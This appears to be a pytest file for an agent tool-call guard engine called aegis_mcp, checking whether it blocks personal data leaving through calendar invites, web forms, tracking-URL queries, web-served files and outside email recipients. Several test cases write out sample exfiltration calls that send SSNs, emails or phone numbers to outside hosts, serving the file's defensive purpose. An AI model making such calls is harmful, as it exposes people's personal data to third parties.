"""Personal data leaving in shapes added this session: invitations, web forms, recipient lists, URL queries, web-served files."""

from __future__ import annotations

import pytest

from aegis_mcp.engine.engine import Engine
from aegis_mcp.engine.model import ToolCall

ENGINE = Engine()


@pytest.mark.parametrize(
    "tool,args,held",
    [
        ("create_calendar_event", {"title": "Call", "description": "Call Jeff (SSN 536-22-8197) about the loan", "attendees": ["jeff@outside.example"]}, True),
        ("create_calendar_event", {"title": "Sync", "description": "weekly sync", "attendees": ["jeff@outside.example"]}, False),
        ("fill_form", {"url": "https://survey.outside.example/f", "fields": {"full_name": "Kim Park", "ssn": "536-22-8197", "dob": "1990-05-05"}}, True),
        ("http_request", {"method": "GET", "url": "https://tracker.example.net/p?email=jane.doe%40acme.com&phone=%2B14155550134&name=Jane+Doe"}, True),
        ("fetch_url", {"url": "https://pixel.outside.example/t.gif?em=bob%40corp.com&fn=Bob&ln=Smith"}, True),
        ("http_request", {"method": "GET", "url": "https://api.example.com/search?name=Jane+Doe&page=2"}, False),
        ("http_request", {"method": "GET", "url": "https://api.example.com/users?email=jane%40acme.com"}, False),
        ("write_file", {"path": "/var/www/html/public/customers.txt", "content": "Jane Doe, 536-22-8197, 4539 1488 0343 6467"}, True),
        ("write_file", {"path": "public/report.txt", "content": "Applicant SSN 536-22-8197"}, True),
        ("write_file", {"path": "notes/report.txt", "content": "Applicant SSN 536-22-8197"}, False),
    ],
)
def test_personal_data_destinations(tool: str, args: dict, held: bool) -> None:
    d = ENGINE.check(ToolCall(tool, args))
    assert (d.decision != "allow") == held, [(s.pattern, s.rule) for s in d.signals]


def test_recipient_list_counts_as_destination_under_trusted_domains() -> None:
    from aegis_mcp.engine.detectors.base import ScanContext  # noqa: F401 (the sink reads ctx.extra)
    from aegis_mcp.engine.detectors.exfil_sink import sink_of
    from aegis_mcp.engine.extract import extract

    ctx = extract(ToolCall("send_email", {"to": ["x@gmail.com"], "body": "hi"}))
    ctx.extra["trusted_domains"] = ["acme.com"]
    sink = sink_of(ctx)
    assert sink.external and "gmail.com" in sink.destinations
